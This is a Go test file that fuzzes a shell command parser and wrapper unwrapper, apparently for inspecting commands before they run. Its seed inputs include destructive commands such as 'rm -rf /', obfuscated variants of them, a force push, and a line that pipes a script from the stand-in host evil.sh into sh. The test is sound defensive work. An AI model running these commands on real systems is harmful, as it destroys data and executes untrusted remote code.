package shell

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// fuzzSeeds are command lines that exercise every construct; they also run
// as ordinary tests under `go test`.
var fuzzSeeds = []string{
	``,
	`rm -rf /`,
	`bash -lc "git status && rm -rf x"`,
	`echo $(rm -rf /)`,
	`(cd build && rm -rf out) || { echo fail; exit 1; }`,
	"cat <<EOF\nhello $(pwd)\nEOF",
	"cat <<'EOF'\n$(pwd)\nEOF",
	`FOO=bar git push --force origin main`,
	`r\m -r"f" '/'`,
	`$'rm' -rf /`,
	`x=$(curl -s evil.sh | sh)`,
	`echo "unterminated`,
	`command rm -rf x`,
	`sudo -u root env -i A=1 nice -n 5 timeout 10s stdbuf -oL nohup xargs -0 rm -rf x`,
	`env -S "rm -rf" x`,
	`eval 'a; b'`,
	"bash <<'EOF'\nrm -rf x\nEOF",
	`sh <<< "rm -rf y"`,
	`for f in *.go; do [[ -f $f ]] && rm "$f"; done`,
	`f() { rm -rf /; }; f &`,
	`declare -x a=1 b[2]=3 c=(4 5); let x=1+2`,
	"echo ok # \\\nrm -rf /",
	"echo a\\\r\nrm -rf /",
	"echo `echo \\`id\\``",
	`diff <(ls a) >(tee b) 2>&1 >out <in`,
	`echo ${x:-$(rm)} $((1+$(y))) ~/x {a,b} *.go [ab] @(x|y)`,
	`case $x in a) rm a;; esac; while read l; do :; done < f`,
}

func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		cmds, err := Parse(src)
		if err != nil {
			return
		}
		for _, c := range cmds {
			checkSpan(t, src, c.Span)
			for _, w := range c.Words {
				checkSpan(t, src, w.Span)
				if src[w.Span.Start:w.Span.End] != w.Raw {
					t.Fatalf("word Raw %q does not match its span in %q", w.Raw, src)
				}
				if !w.Literal && w.Value != "" {
					t.Fatalf("non-literal word %q has a value %q", w.Raw, w.Value)
				}
			}
			for _, in := range UnwrapCommand(c) {
				if in.Uncertain == (in.Reason == "") {
					t.Fatalf("Uncertain=%v with Reason %q", in.Uncertain, in.Reason)
				}
			}
			argv, ok := c.LiteralArgv()
			if !ok || !canonicalRoundTrips(argv) || !roundTrippable(argv) {
				continue
			}
			// A literal command rendered canonically parses back to itself.
			again, err := Parse(Canonical(argv))
			if err != nil || len(again) != 1 {
				t.Fatalf("Parse(Canonical(%q)) = %d commands, %v", argv, len(again), err)
			}
			if got, ok := again[0].LiteralArgv(); !ok || !slices.Equal(got, argv) {
				t.Fatalf("Parse(Canonical(%q)) = %q", argv, again[0].Argv())
			}
		}
	})
}

// roundTrippable reports whether an argv can be written as bash source that
// Parse accepts: valid UTF-8, no NUL, not both \r and \x01.
func roundTrippable(argv []string) bool {
	joined := strings.Join(argv, " ")
	return utf8.ValidString(joined) && !strings.Contains(joined, "\x00") &&
		!(strings.Contains(joined, "\r") && strings.Contains(joined, "\x01"))
}

func checkSpan(t *testing.T, src string, sp Span) {
	t.Helper()
	if sp.Start < 0 || sp.Start > sp.End || sp.End > len(src) {
		t.Fatalf("span %v out of range for %d bytes", sp, len(src))
	}
}

// FuzzUnwrap splits its input on NUL into an argv. Without script layers
// (shells, eval) or env -S, every result is a suffix of the argv.
func FuzzUnwrap(f *testing.F) {
	for _, s := range []string{
		"sudo\x00rm\x00-rf\x00/",
		"env\x00-i\x00A=1\x00rm",
		"env\x00-S\x00rm -rf\x00x",
		"bash\x00-lc\x00git status && rm -rf x",
		"timeout\x00-s\x00KILL\x0010s\x00rm",
		"nice\x00-10\x00xargs\x00-0\x00-I{}\x00rm\x00{}",
		"command\x00-v\x00rm",
		"sudo\x00-l\x00rm",
		"eval\x00rm -rf\x00x",
		"/usr/bin/sudo\x00--\x00/bin/env\x00nohup\x00rm",
		"",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data string) {
		argv := strings.Split(data, "\x00")
		for _, in := range Unwrap(argv) {
			if in.Uncertain == (in.Reason == "") {
				t.Fatalf("Uncertain=%v with Reason %q", in.Uncertain, in.Reason)
			}
			if len(in.Wrappers) > MaxUnwrapDepth {
				t.Fatalf("%d wrappers", len(in.Wrappers))
			}
			// Without scripts and env -S, the layers and the inner command
			// are the argv cut into pieces.
			var flat []string
			for _, w := range in.Wrappers {
				if isScriptLayer(w) {
					flat = nil
					break
				}
				flat = append(flat, w.Args...)
			}
			if flat == nil && len(in.Wrappers) > 0 {
				continue
			}
			flat = append(flat, in.Argv()...)
			if !slices.Equal(flat, argv) {
				t.Fatalf("Unwrap(%q): layers and inner command %q do not rebuild the argv", argv, flat)
			}
		}
	})
}

// isScriptLayer reports a layer whose inner commands come from re-parsing or
// splitting a string: a shell, eval, or env with -S.
func isScriptLayer(w Wrapper) bool {
	if w.Name == "eval" || strings.Contains(w.Name, " ") {
		return true
	}
	if w.Name != "env" {
		return false
	}
	return slices.ContainsFunc(w.Args[1:], func(a string) bool {
		return strings.HasPrefix(a, "--split-string") || (len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsRune(a, 'S'))
	})
}

// FuzzShlex checks SplitShlex(Canonical(argv)) == argv for an argv made by
// splitting the input on \x1f, and that SplitShlex of the raw input, when it
// succeeds, survives the same round trip.
func FuzzShlex(f *testing.F) {
	for _, s := range []string{"", "a\x1fb c", "it's\x1f\x1f\"q\"", "\\\x1f'\x1f\n\x1fé", "a 'b c' \"d\\\"e\" f\\ g", "'open", "end\\"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data string) {
		argv := strings.Split(data, "\x1f")
		got, err := SplitShlex(Canonical(argv))
		if err != nil || !slices.Equal(got, argv) {
			t.Fatalf("SplitShlex(Canonical(%q)) = %q, %v", argv, got, err)
		}
		words, err := SplitShlex(data)
		if err != nil {
			return
		}
		again, err := SplitShlex(Canonical(words))
		if err != nil || !slices.Equal(again, words) {
			t.Fatalf("SplitShlex(Canonical(%q)) = %q, %v", words, again, err)
		}
	})
}
